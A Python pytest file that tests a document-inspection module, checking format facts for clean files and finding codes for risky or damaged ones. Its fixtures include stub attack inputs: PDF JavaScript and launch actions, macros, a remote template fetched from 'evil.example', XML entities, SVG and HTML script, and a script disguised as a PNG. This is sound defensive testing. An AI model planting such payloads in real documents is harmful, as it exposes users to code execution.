"""Plain documents: what an inspection tells of each, and what is wrong with them."""

from __future__ import annotations

import io

import pytest

from repository.formats import Limits, Outcome, Report, inspect
from tests.formats import documents as make
from tests.formats.raw_zip import zip_of

VTT = b"WEBVTT\n\n00:01.000 --> 00:04.000\nHello\n\n01:01:01.000 --> 01:01:04.500\nBye\n"
SRT = b"1\r\n00:00:01,000 --> 00:00:04,000\r\nHello\r\n"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80px">{}</svg>'
HTML = '<!doctype html><html lang="en-CA"><title>Mops &amp; pails</title>{}</html>'


def report_of(data: bytes, name: str, limits: Limits | None = None) -> Report:
    return inspect(io.BytesIO(data), name, limits=limits or Limits())


CLEAN = {
    "a.pdf": (
        make.pdf("<</Type/Page>>", "<</Type/Page>>"),
        "PDF",
        {"pages": "2", "version": "1.7"},
    ),
    "a.docx": (make.word(), "DOCX", {"title": "Lesson 1", "language": "en-CA"}),
    "a.pptx": (make.slides(3), "PPTX", {"slides": "3", "title": "Slides"}),
    "a.xlsx": (make.workbook(), "XLSX", {}),
    "a.odt": (make.open_document(), "ODT", {"title": "Plan", "pages": "4", "language": "fr-CA"}),
    "a.odp": (make.open_document("presentation"), "ODP", {}),
    "a.ods": (make.open_document("spreadsheet"), "ODS", {}),
    "a.epub": (zip_of({"mimetype": "application/epub+zip", "a.opf": "<o/>"}), "EPUB", {}),
    "a.png": (make.picture("PNG"), "PNG", {"width": "8", "height": "6"}),
    "a.JPG": (make.picture("JPEG"), "JPEG", {"width": "8", "height": "6"}),
    "a.gif": (make.picture("GIF"), "GIF", {"width": "8", "height": "6"}),
    "a.webp": (make.picture("WEBP"), "WebP", {"width": "8", "height": "6"}),
    "a.bmp": (make.picture("BMP"), "BMP", {"width": "8", "height": "6"}),
    "a.svg": (SVG.format("<title>Mop</title>").encode(), "SVG", {"title": "Mop", "width": "120"}),
    "a.mp4": (make.mp4(), "MP4", {"seconds": "90", "width": "640", "height": "360"}),
    "a.m4a": (make.mp4(brand=b"M4A ", size=(0, 0)), "M4A", {"seconds": "90"}),
    "a.mov": (make.mp4(brand=b"qt  "), "MP4", {"seconds": "90"}),
    "a.webm": (make.webm(), "WebM", {"seconds": "12", "width": "320", "height": "180"}),
    "a.mp3": (make.mp3(), "MP3", {"seconds": "4"}),
    "tagged.mp3": (make.mp3(tag=b"ID3\4\0\0\0\0\0\x0a" + b"\0" * 10), "MP3", {"seconds": "4"}),
    "a.wav": (make.wav(), "WAV", {"seconds": "3"}),
    "a.vtt": (VTT, "WebVTT", {"cues": "2", "seconds": "3664"}),
    "a.srt": (SRT, "SubRip", {"cues": "1", "seconds": "4"}),
    "a.html": (HTML.format("<p>x").encode(), "web page", {"title": "Mops & pails"}),
    "a.md": (b"---\ntitle: 'Plan B'\n---\n# Plan A\n", "Markdown", {"title": "Plan B"}),
    "b.md": (b"\n\n# Plan A #\n\ntext", "Markdown", {"title": "Plan A"}),
    "a.txt": ("Größe".encode(), "plain text", {}),
    "b.txt": ("Größe".encode("utf-16"), "plain text", {}),
    "README": (b"Read me.", "plain text", {}),
    "a.csv": (b"a,b\n1,2\n", "CSV table", {}),
    "a.json": (b'{"a": 1}', "JSON", {}),
    "case.json": (b'{"CFDocument": {"title": "Skills"}}', "CASE framework", {"title": "Skills"}),
    "a.xml": (b"<?xml version='1.0'?><a/>", "XML", {}),
}


@pytest.mark.parametrize("name", CLEAN)
def test_inspect_sound_document_is_clean_and_tells_what_it_is(name: str) -> None:
    data, form, facts = CLEAN[name]
    report = report_of(data, name)
    assert (report.kind, report.findings) == ("document", ())
    assert dict(report.facts).items() >= ({"format": form} | facts).items()


MEDIA_TYPES = {
    "a.pdf": "application/pdf",
    "a.docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "a.JPG": "image/jpeg",
    "a.svg": "image/svg+xml",
    "a.mov": "video/quicktime",
    "a.m4a": "audio/mp4",
    "a.webm": "video/webm",
    "a.html": "text/html",
    "b.md": "text/markdown",
    "README": "text/plain",
    "a.xml": "application/xml",
}


@pytest.mark.parametrize(("name", "media_type"), MEDIA_TYPES.items())
def test_inspect_document_gives_its_media_type(name: str, media_type: str) -> None:
    assert report_of(CLEAN[name][0], name).media_type == media_type


VBA = "_VBA_PROJECT".encode("utf-16-le")
LOCKED = "EncryptedPackage".encode("utf-16-le")
EXTERNAL = (
    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
DAMAGED = {
    "pdf cut off": ("a.pdf", make.pdf("<</Type/Page>>", end=""), "PDF-TRUNCATED"),
    "pdf with script": ("a.pdf", make.pdf("<</S/JavaScript/JS(x)>>"), "PDF-SCRIPT"),
    "pdf with hidden script": ("a.pdf", make.pdf("<</S/J#61vaScript>>"), "PDF-SCRIPT"),
    "pdf that starts programs": ("a.pdf", make.pdf("<</S/Launch/F(x.exe)>>"), "PDF-LAUNCH"),
    "pdf with attachment": ("a.pdf", make.pdf("<</Type/EmbeddedFile>>"), "PDF-ATTACHMENT"),
    "pdf protected": ("a.pdf", make.pdf(trailer="/Encrypt 9 0 R"), "PDF-PROTECTED"),
    "pdf, script in a stream": (
        "a.pdf",
        make.pdf_with_object_stream("<</Type/Catalog>>", "<</S/JavaScript>>"),
        "PDF-SCRIPT",
    ),
    "word without its text": (
        "a.docx",
        zip_of({"[Content_Types].xml": make.TYPES}),
        "OFFICE-DAMAGED",
    ),
    "word with macros": (
        "a.xlsx",
        make.workbook(**{"xl/vbaProject.bin": "x"}),
        "TYPE-MACROS",
    ),
    "word that loads a template": (
        "a.xlsx",
        make.workbook(**{"xl/_rels/workbook.xml.rels": EXTERNAL}),
        "OFFICE-EXTERNAL",
    ),
    "word with entities": (
        "a.xlsx",
        make.workbook(**{"docProps/core.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        "XML-ENTITY",
    ),
    "old word": ("a.doc", make.OLE, "OFFICE-OLD"),
    "old word with macros": ("a.doc", make.OLE + VBA, "TYPE-MACROS"),
    "word with a password": ("a.docx", make.OLE + LOCKED, "OFFICE-PROTECTED"),
    "word is any zip": ("a.docx", zip_of({"a.txt": b"x"}), "TYPE-MISMATCH"),
    "macro document": ("a.docm", make.word(), "TYPE-MACROS"),
    "picture flood": ("a.png", make.png_that_claims(50_000, 50_000), "IMAGE-TOO-LARGE"),
    "picture ribbon": ("a.png", make.png_that_claims(90_000, 1), "IMAGE-TOO-LARGE"),
    "picture of nothing": ("a.png", make.png_that_claims(0, 0), "IMAGE-DAMAGED"),
    "picture cut off": ("a.gif", b"GIF89a", "IMAGE-DAMAGED"),
    "drawing with script": ("a.svg", SVG.format("<script>x</script>").encode(), "SVG-SCRIPT"),
    "drawing with handler": ("a.svg", SVG.format('<g onclick="x"/>').encode(), "SVG-SCRIPT"),
    "drawing with link": ("a.svg", SVG.format('<a href="http://x"/>').encode(), "SVG-SCRIPT"),
    "drawing with document type": (
        "a.svg",
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">' + SVG.format("").encode(),
        "SVG-DOCTYPE",
    ),
    "drawing with entities": (
        "a.svg",
        b"<!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG.format("").encode(),
        "XML-ENTITY",
    ),
    "page with script": ("a.html", HTML.format("<script>x</script>").encode(), "HTML-SCRIPT"),
    "video cut off": ("a.mp4", make.mp4()[:60], "VIDEO-DAMAGED"),
    "video of nothing": ("a.webm", b"\x1aE\xdf\xa3\x80", "VIDEO-DAMAGED"),
    "sound of nothing": ("a.wav", b"RIFF\0\0\0\0WAVE", "AUDIO-DAMAGED"),
    "captions without heading": ("a.vtt", VTT[6:], "CAPTIONS-DAMAGED"),
    "captions without times": ("a.vtt", b"WEBVTT\n\nHello", "CAPTIONS-DAMAGED"),
    "subtitles without times": ("a.srt", b"Hello", "CAPTIONS-DAMAGED"),
    "json too large to check": ("a.json", b"[" + b" " * 10 * 1024**2, "FILE-UNCHECKED"),
    "drawing too large to check": ("a.svg", b"<svg>" + b" " * 10 * 1024**2, "FILE-UNCHECKED"),
    "drawing is a page": ("a.svg", b"<html>", "TYPE-MISMATCH"),
    "json broken": ("a.json", b'{"a": ', "JSON-INVALID"),
    "json too deep": ("a.json", b"[" * 200_000, "JSON-INVALID"),
    "json number": ("a.json", b"9" * 10_000, "JSON-INVALID"),
    "text in Latin-1": ("a.txt", "café".encode("latin-1"), "TEXT-ENCODING"),
    "archive of another sort": ("a.rar", b"Rar!\x1a\x07\0", "TYPE-OTHER-ARCHIVE"),
    "unknown": ("a.blend", b"BLENDER\0\1\2", "TYPE-UNKNOWN"),
    "program": ("setup.exe", b"MZ", "TYPE-FORBIDDEN"),
    "program called a document": ("a.pdf.exe", b"%PDF-1.4", "TYPE-FORBIDDEN"),
    "program as a picture": ("a.png", b"\x7fELF\2\1\1\0" + b"\0" * 50, "TYPE-FORBIDDEN"),
    "server program": ("a.php", b"<?php", "TYPE-PROGRAM-TEXT"),
    "secrets": (".env", b"KEY=1", "TYPE-SECRET"),
    "key": ("id_rsa", b"x", "TYPE-SECRET"),
    "picture is a page": ("a.png", b"<script>alert(1)</script>", "TYPE-MISMATCH"),
    "picture is nothing": ("a.png", b"hello", "TYPE-MISMATCH"),
    "page is a zip": ("a.html", zip_of({"a": b""}), "TYPE-MISMATCH"),
    "text is not text": ("a.txt", b"\0\1\2\3" * 9, "TYPE-MISMATCH"),
    "word is a pdf": ("a.docx", make.pdf(), "TYPE-MISMATCH"),
    "word is a workbook": ("a.docx", make.workbook(), "TYPE-MISMATCH"),
    "zip is a word document": ("a.zip", make.word(), "TYPE-MISMATCH"),
    "jpeg is png": ("a.jpg", make.picture("PNG"), "TYPE-VARIANT"),
    "webm is mp4": ("a.webm", make.mp4(), "TYPE-VARIANT"),
    "no ending": ("plan", make.pdf(), "TYPE-NAME"),
}


@pytest.mark.parametrize(("name", "data", "code"), DAMAGED.values(), ids=DAMAGED.keys())
def test_inspect_document_says_what_is_wrong(name: str, data: bytes, code: str) -> None:
    report = report_of(data, name)
    assert report.findings[0].code == code


@pytest.mark.parametrize(
    ("data", "pages", "title"),
    [
        (make.pdf("<</Type/Pages/Kids[]/Count 7>>", "<</Type/Page>>"), "7", ""),
        (
            make.pdf("<</Type/Page>>", "<</Title(Floor \\(care\\))>>", trailer="/Info 2 0 R"),
            "1",
            "Floor (care)",
        ),
        (make.pdf("<</Title<FEFF00C9>>>", trailer="/Info 1 0 R"), "", "É"),
        (
            make.pdf_with_object_stream(
                "<</Type/Catalog>>", "<</Type/Pages/Count 12>>", "<</Title(In a stream)>>"
            ),
            "12",
            "In a stream",
        ),
    ],
    ids=["page tree", "title", "title in hexadecimal", "object stream"],
)
def test_inspect_pdf_tells_pages_and_title(data: bytes, pages: str, title: str) -> None:
    facts = dict(report_of(data, "a.pdf").facts)
    assert (facts.get("pages", ""), facts.get("title", "")) == (pages, title)


def test_inspect_pdf_finds_a_script_across_the_edge_of_what_is_read_at_once() -> None:
    for at in range(4 * 1024 * 1024 - 20, 4 * 1024 * 1024 + 5, 6):
        padding = "x" * (at - len("%PDF-1.7\n1 0 obj\n"))
        data = make.pdf(padding + "/S/JavaScript ", "<</Type/Page>>")
        report = report_of(data, "a.pdf")
        assert [found.code for found in report.findings] == ["PDF-SCRIPT"]
        assert dict(report.facts)["pages"] == "1"


def test_inspect_office_document_with_damaged_part_is_refused() -> None:
    data = bytearray(make.word())
    at = data.find(b"word/document.xml") + 60
    data[at] ^= 0xFF
    assert report_of(bytes(data), "a.docx").outcome == Outcome.REFUSED
